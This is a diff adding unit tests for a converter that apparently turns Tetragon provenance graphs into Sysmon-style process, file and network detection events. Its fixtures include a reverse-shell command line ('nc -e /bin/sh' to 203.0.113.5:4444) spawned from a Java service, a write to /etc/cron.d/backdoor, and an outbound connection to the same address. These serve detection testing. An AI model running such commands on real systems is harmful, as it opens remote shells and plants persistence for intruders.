@@ -144,6 +144,93 @@ describe('network_connection', () => {
   });
 });
 
+describe('Tetragon’s model: one vertex per exec image, linked to its parent image', () => {
+  /** A process as the Tetragon reader writes it (no uid without enableProcessCred: euid only). */
+  const tp = (pid: number, ppid: number, exe: string, cmd: string, flags: string, extra: Record<string, string> = {}) => ({
+    pid: String(pid),
+    ppid: String(ppid),
+    exe,
+    'command line': cmd,
+    cwd: '/app',
+    euid: '1000',
+    node: 'kind-worker',
+    'exec flags': flags,
+    'k8s pod': 'adservice-6b7c8d9e0f-abcde',
+    'k8s namespace': 'default',
+    'k8s pod labels': 'app=adservice',
+    ...extra,
+  });
+
+  it('fork + exec (clone edge from an exec image): one event, the parent is the image it was cloned from', () => {
+    const g = new Graph()
+      .process('java', tp(20, 10, '/opt/java/openjdk/bin/java', '/opt/java/openjdk/bin/java -jar ad.jar', 'execve rootcwd clone'))
+      .process('sh', tp(21, 20, '/bin/sh', '/bin/sh -c "nc -e /bin/sh 203.0.113.5 4444"', 'execve clone', { 'start time': '1701959403.5' }))
+      .edge('WasTriggeredBy', 'sh', 'java', { operation: 'clone', time: '1701959403.5' });
+    const events = derive(g).filter((e) => e.category === 'process_creation');
+    // java's parent never appeared: it ran before, reported once (as for SPADE).
+    expect(events.map((e) => [e.fields.Image, e.edge])).toEqual([
+      ['/opt/java/openjdk/bin/java', -1],
+      ['/bin/sh', 0],
+    ]);
+    expect({ ...events[1]!.fields }).toEqual({
+      Image: '/bin/sh',
+      CommandLine: '/bin/sh -c "nc -e /bin/sh 203.0.113.5 4444"',
+      CurrentDirectory: '/app',
+      ProcessId: '21',
+      ParentProcessId: '20',
+      ParentImage: '/opt/java/openjdk/bin/java',
+      ParentCommandLine: '/opt/java/openjdk/bin/java -jar ad.jar',
+      User: '1000',
+    });
+    expect(events[1]!).toMatchObject({ time: '1701959403.5', attribution: { svc: 'adservice', kind: 'pod' } });
+  });
+
+  it('exec without fork (execve edge, same pid): the parent stays the image that forked the pid', () => {
+    const g = new Graph()
+      .process('java', tp(20, 10, '/opt/java/openjdk/bin/java', 'java', 'procFS auid rootcwd'))
+      .process('bash', tp(21, 20, '/bin/bash', 'bash -c curl x', 'execve clone'))
+      .edge('WasTriggeredBy', 'bash', 'java', { operation: 'clone', time: '2' })
+      .process('curl', tp(21, 20, '/usr/bin/curl', 'curl x', 'execve'))
+      .edge('WasTriggeredBy', 'curl', 'bash', { operation: 'execve', time: '3' });
+    const events = derive(g).filter((e) => e.edge !== -1);
+    expect(events.map((e) => [e.fields.Image, e.fields.ParentImage, e.fields.ParentProcessId])).toEqual([
+      ['/bin/bash', '/opt/java/openjdk/bin/java', '20'],
+      ['/usr/bin/curl', '/opt/java/openjdk/bin/java', '20'],
+    ]);
+  });
+
+  it('a forked child that never execs is none; a process found in /proc (procFS) ran before the capture: one event', () => {
+    const g = new Graph()
+      .process('systemd', tp(1, 0, '/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --system', 'procFS auid rootcwd'))
+      .process('kubelet', tp(700, 1, '/usr/bin/kubelet', '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml', 'procFS auid rootcwd'))
+      .edge('WasTriggeredBy', 'kubelet', 'systemd', { operation: 'clone', time: '0.7' })
+      .process('redis', tp(30, 700, '/usr/local/bin/redis-server', '/usr/local/bin/redis-server *:6379', 'execve clone'))
+      .edge('WasTriggeredBy', 'redis', 'kubelet', { operation: 'clone', time: '5' })
+      .process('bgsave', tp(31, 30, '/usr/local/bin/redis-server', '/usr/local/bin/redis-server *:6379', 'clone'))
+      .edge('WasTriggeredBy', 'bgsave', 'redis', { operation: 'clone', time: '6' });
+    const events = derive(g).filter((e) => e.category === 'process_creation');
+    expect(events.map((e) => [e.fields.Image, e.fields.ParentImage ?? ''])).toEqual([
+      ['/usr/lib/systemd/systemd', ''],
+      ['/usr/bin/kubelet', '/usr/lib/systemd/systemd'],
+      ['/usr/local/bin/redis-server', '/usr/bin/kubelet'],
+    ]);
+  });
+
+  it('a security_file_permission write and a tcp_connect: file_event and network_connection, User from the euid', () => {
+    const g = new Graph()
+      .process('tee', tp(40, 21, '/usr/bin/tee', '/usr/bin/tee /etc/cron.d/backdoor', 'execve clone'))
+      .artifact('cron', { subtype: 'file', path: '/etc/cron.d/backdoor', permissions: '0644' })
+      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'write', time: '7' })
+      .artifact('out', { subtype: 'network socket', protocol: 'tcp', 'local address': '10.244.1.10', 'local port': '45678', 'remote address': '203.0.113.5', 'remote port': '4444' })
+      .edge('WasGeneratedBy', 'out', 'tee', { operation: 'connect', time: '8' });
+    const events = derive(g).filter((e) => e.category !== 'process_creation');
+    expect(events.map((e) => ({ ...e.fields }))).toEqual([
+      { TargetFilename: '/etc/cron.d/backdoor', Image: '/usr/bin/tee', ProcessId: '40', User: '1000' },
+      { Initiated: 'true', SourceIp: '10.244.1.10', SourcePort: '45678', DestinationIp: '203.0.113.5', DestinationPort: '4444', Protocol: 'tcp', Image: '/usr/bin/tee', ProcessId: '40', User: '1000' },
+    ]);
+  });
+});
+
 describe('events carry their process attribution, in capture order', () => {
   it('a process in the adservice namespace: every event of it says adservice', () => {
     const g = new Graph()
